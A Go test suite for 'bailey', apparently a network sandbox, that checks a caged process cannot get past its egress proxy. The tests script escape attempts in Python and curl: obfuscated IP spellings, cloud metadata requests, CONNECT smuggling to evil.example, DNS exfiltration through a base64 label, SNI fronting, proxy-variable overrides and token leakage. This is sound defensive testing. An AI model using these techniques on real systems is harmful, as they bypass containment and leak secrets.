//go:build linux

package reach

import (
	"bufio"
	"fmt"
	"io"
	"net/http"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"bailey"
)

// script runs Python in a cage that may reach api.example.com:443.
func (w *world) script(code string, more ...string) ended {
	w.t.Helper()
	lib, _ := filepath.Glob("/usr/lib/python3*")
	return w.run(bailey.Job{Command: "/usr/bin/python3", Read: lib, Args: append([]string{"-I", "-c", prelude + code}, more...)}, false, "api.example.com:443")
}

// prelude holds functions that the attacks share: a request to the proxy, and an attempt to reach an address.
const prelude = `
import os, socket, sys, time
def ask(line, host='127.0.0.1', port=3128):
    s = socket.create_connection((host, port), 20)
    s.sendall((line + '\r\n\r\n').encode())
    return s.recv(65536).decode('latin-1').split('\r\n')[0]
def tried(what, do):
    try:
        print('%s: GOT %r' % (what, do()))
    except OSError as e:
        print('%s: %s' % (what, e.strerror or e))
`

// nothing checks that an attack reached nothing and that the proxy made no connection.
func (w *world) nothing(r ended, tries int) {
	w.t.Helper()
	if r.exit.Code != 0 || strings.Contains(r.out, "GOT") || strings.Count(r.out, "\n") != tries {
		w.t.Errorf("exit %d\n%s", r.exit.Code, r)
	}
	if at := w.reached(); len(at) > 0 {
		w.t.Errorf("the proxy connected to %q", at)
	}
}

func attacked(t *testing.T) *world {
	w := newWorld(t, "/usr/bin/python3")
	w.https("api.example.com", "93.184.216.34", http.NotFoundHandler())
	w.https("evil.example", "93.184.216.35", http.NotFoundHandler())
	return w
}

// TestAttackPastTheProxy checks that no address can be reached from the cage, in any spelling, and no name except the
// allowed ones.
func TestAttackPastTheProxy(t *testing.T) {
	w := attacked(t)
	r := w.script(`
for host in ['93.184.216.34', '93.184.216.35', '10.0.0.1', '169.254.169.254', '1572395042', '0x5db8d822', '0135.0270.0330.042', '93.184.55330', '2001:db8::1', '::ffff:93.184.216.34',
             '64:ff9b::5db8:d822', 'fe80::1', '::1', '0.0.0.0', '127.0.0.2', '255.255.255.255', 'evil.example', 'localhost.evil.example']:
    tried(host, lambda: socket.create_connection((host, 443), 5))
`)
	w.nothing(r, 18)
}

// TestAttackByTheProxy checks that the proxy connects only to allowed endpoints, for any request and any spelling.
func TestAttackByTheProxy(t *testing.T) {
	w := attacked(t)
	r := w.script(`
for to in ['evil.example:443', 'api.example.com:22', 'api.example.com:80', 'api.example.com:8443', '93.184.216.34:443', '1572395042:443', '0x5db8d822:443', '0135.0270.0330.042:443', '93.184.55330:443',
           '[::ffff:93.184.216.34]:443', '[::1]:443', '127.0.0.1:443', 'localhost:443', '169.254.169.254:80', 'metadata.google.internal:80', 'api.example.com.evil.example:443', 'evil.example#.api.example.com:443']:
    line = ask('CONNECT %s HTTP/1.1\r\nHost: %s' % (to, to))
    print(to, 'GOT' if ' 200 ' in line else 'no')
for url in ['http://api.example.com/', 'http://evil.example/', 'https://evil.example/', 'ftp://api.example.com/']:
    line = ask('GET %s HTTP/1.1\r\nHost: api.example.com' % url)
    print(url, 'GOT' if ' 200 ' in line else 'no')
`)
	w.nothing(r, 21)
	if names := w.lookedUp(); len(names) > 0 {
		t.Errorf("%q were looked up", names)
	}
	if r.report.Refused < 20 { // input that is not a request is answered but not counted
		t.Errorf("%+v", r.report.EgressTotals)
	}
}

// TestAttackDatagramsInACage checks that UDP, and therefore QUIC, reaches nothing, and that no looked-up name can carry
// a message to the server of its domain.
func TestAttackDatagramsInACage(t *testing.T) {
	w := attacked(t)
	r := w.script(`
def send(family, to):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.connect(to)
    s.send(b'\x00' * 64)
    return s.recv(1)
for to in [('93.184.216.34', 443), ('8.8.8.8', 53), ('127.0.0.53', 53), ('127.0.0.1', 53), ('224.0.0.251', 5353), ('169.254.169.253', 53)]:
    tried(to, lambda: send(socket.AF_INET, to))
tried('v6', lambda: send(socket.AF_INET6, ('2001:db8::1', 53)))
tried('name', lambda: socket.getaddrinfo('c2VjcmV0.evil.example', 443))
tried('txt', lambda: socket.gethostbyname('c2VjcmV0.api.example.com'))
for kind in [socket.SOCK_RAW]:
    tried('raw', lambda: socket.socket(socket.AF_INET, kind, 1))
tried('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
tried('netlink', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
tried('vsock', lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
`)
	w.nothing(r, 13)
	if names := w.lookedUp(); len(names) > 0 {
		t.Errorf("%q were looked up", names)
	}
}

// TestAttackRelayInACage checks that a process that listens inside the cage and forwards to the proxy is subject to the
// same rules.
func TestAttackRelayInACage(t *testing.T) {
	w := attacked(t)
	r := w.script(`
relay = socket.create_server(('127.0.0.1', 9999))
if os.fork() == 0:
    near, _ = relay.accept()
    far = socket.create_connection(('127.0.0.1', 3128), 20)
    far.sendall(near.recv(4096))
    near.sendall(far.recv(4096))
    os._exit(0)
line = ask('CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443', port=9999)
print('GOT' if ' 200 ' in line else line)
`)
	w.nothing(r, 1)
	r.refused(t, "egress to evil.example:443 is not allowed")
}

// TestAttackProxyVariables checks that if a tool changes or removes the proxy variables, it reaches nothing more.
func TestAttackProxyVariables(t *testing.T) {
	w := yard(t, "curl")
	for _, env := range [][]string{{"HTTPS_PROXY=", "https_proxy=", "ALL_PROXY=", "all_proxy="}, {"https_proxy=http://93.184.216.35:3128"}, {"https_proxy=socks5h://10.0.0.1:1080"}, {"no_proxy=*", "NO_PROXY=*"}} {
		args := []string{"-q", "-sS", "--max-time", "20"}
		for _, v := range env {
			if name, value, _ := strings.Cut(v, "="); name == "https_proxy" && value != "" {
				args = append(args, "--proxy", value)
			} else if strings.EqualFold(name, "no_proxy") {
				args = append(args, "--noproxy", "*")
			}
		}
		r := w.run(bailey.Job{Command: "curl", Args: append(args, "https://evil.example/page")}, env[0] == "HTTPS_PROXY=", "api.example.com:443")
		if r.exit.Code == 0 || strings.Contains(r.out, "the page") || len(w.reached()) > 0 {
			t.Errorf("%q: %s, %q", env, r, w.reached())
		}
	}
}

// TestAttackFrontingInACage checks that the server name in TLS must be the allowed one. A redirect must not lead
// elsewhere, and another port of an allowed name must be refused.
func TestAttackFrontingInACage(t *testing.T) {
	w := yard(t, "curl")
	curl := func(bare bool, args ...string) ended {
		return w.run(bailey.Job{Command: "curl", Args: append([]string{"-q", "-sS", "--max-time", "20"}, args...)}, bare, "api.example.com:443")
	}
	for name, c := range map[string]struct {
		r     ended
		words string
	}{
		"another SNI":                {curl(false, "--connect-to", "evil.example:443:api.example.com:443", "https://evil.example/page"), "TLS connection names another server, \"evil.example\""},
		"another SNI, past it":       {curl(true, "--connect-to", "evil.example:443:api.example.com:443", "https://evil.example/page"), "TLS connection names another server, \"evil.example\""},
		"no SNI":                     {curl(false, "-k", "--connect-to", "93.184.216.35:443:api.example.com:443", "https://93.184.216.35/page"), "TLS"},
		"a redirect":                 {curl(false, "-L", "https://api.example.com/away"), "egress to evil.example:443 is not allowed"},
		"a redirect, past the proxy": {curl(true, "-L", "https://api.example.com/away"), ""},
		"another port":               {curl(false, "https://api.example.com:8443/page"), "egress to api.example.com:8443 is not allowed"},
		"plain":                      {curl(true, "http://api.example.com:443/page"), "not TLS"},
	} {
		// plain HTTP gets the refusal as a response
		if c.r.exit.Code == 0 && name != "plain" || strings.Contains(c.r.out, "the page") {
			t.Errorf("%s: %s", name, c.r)
		}
		if c.words != "" {
			c.r.refused(t, c.words)
		}
	}
	if at := w.reached(); slices.Contains(at, "93.184.216.35:443") {
		t.Errorf("the proxy connected to %q", at)
	}
}

// TestAttackHeldOpen checks that connections that a tool leaves open, in use or idle, end with its call. The next call
// must have a network path of its own.
func TestAttackHeldOpen(t *testing.T) {
	w := newWorld(t, "/usr/bin/python3")
	ended := make(chan error, 8)
	var begun atomic.Int32
	ln := w.listen("api.example.com", "93.184.216.34", 443)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			begun.Add(1)
			go func() {
				_, err := io.Copy(io.Discard, bufio.NewReader(c))
				ended <- err
			}()
		}
	}()
	lib, _ := filepath.Glob("/usr/lib/python3*")
	code := prelude + `
idle = socket.create_connection(('api.example.com', 443), 20)
busy = socket.create_connection(('api.example.com', 443), 20)
busy.sendall(b'here')
half = socket.create_connection(('127.0.0.1', 3128), 20)
half.sendall(b'CONNECT api')
if os.fork() == 0:
    os.setsid()
    while True:
        time.sleep(1)
        busy.sendall(b'still here')
print('left')
`
	job := bailey.Job{Command: "/usr/bin/python3", Read: lib, Args: []string{"-I", "-c", code}}
	done := int32(0)
	for range 2 {
		r := w.runTo(job, false, []bailey.Endpoint{{Host: "api.example.com", Port: 443, Plain: true}}, nil)
		if r.exit.Code != 0 || r.out != "left\n" {
			t.Fatal(r)
		}
		// both ends of every connection are closed when the call is over; one may be cut off before it was established
		for ; done < begun.Load(); done++ {
			select {
			case <-ended:
			case <-time.After(20 * time.Second):
				t.Fatal("a connection outlives its call")
			}
		}
		w.mu.Lock()
		w.dialed = nil
		w.mu.Unlock()
	}
	if done == 0 {
		t.Error("no connection was made")
	}
}

// TestAttackPlaceholder checks that the tool has only a placeholder, and that the value is sent only to the named host.
func TestAttackPlaceholder(t *testing.T) {
	w := yard(t, "curl")
	w.https("other.example.com", "93.184.216.36", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { fmt.Fprintln(rw, r.Header.Get("Authorization")) }))
	in := bailey.Injection{Name: "TOKEN", Placeholder: bailey.NewPlaceholder(), Value: bailey.NewSecret("sesame-open"), To: []string{"api.example.com:443"}, Headers: []string{"Authorization"}}
	all := []bailey.Endpoint{{Host: "api.example.com", Port: 443}, {Host: "other.example.com", Port: 443, Inspect: true}}
	curl := func(args ...string) ended {
		return w.runTo(bailey.Job{Command: "curl", Args: append([]string{"-q", "-sS", "--max-time", "20"}, args...)}, false, all, []injected{{in, in.Placeholder}})
	}
	if r := curl("-H", "Authorization: Bearer "+in.Placeholder, "https://api.example.com/own"); r.exit.Code != 0 || !strings.HasPrefix(r.out, "Bearer sesame-open") {
		t.Errorf("%s", r)
	}
	for _, args := range [][]string{{"-H", "Authorization: Bearer " + in.Placeholder, "https://other.example.com/own"}, {"-H", "X-Other: " + in.Placeholder, "https://api.example.com/own"},
		{"https://api.example.com/own?x=" + in.Placeholder}, {"-d", in.Placeholder, "https://api.example.com/own"}} {
		r := curl(args...)
		if strings.Contains(r.String(), "sesame") || !slices.ContainsFunc(r.report.Events, func(e bailey.EgressEvent) bool { return e.Kind == bailey.EgressMisused }) {
			t.Errorf("%q: %s, %+v", args, r, r.report)
		}
	}
}
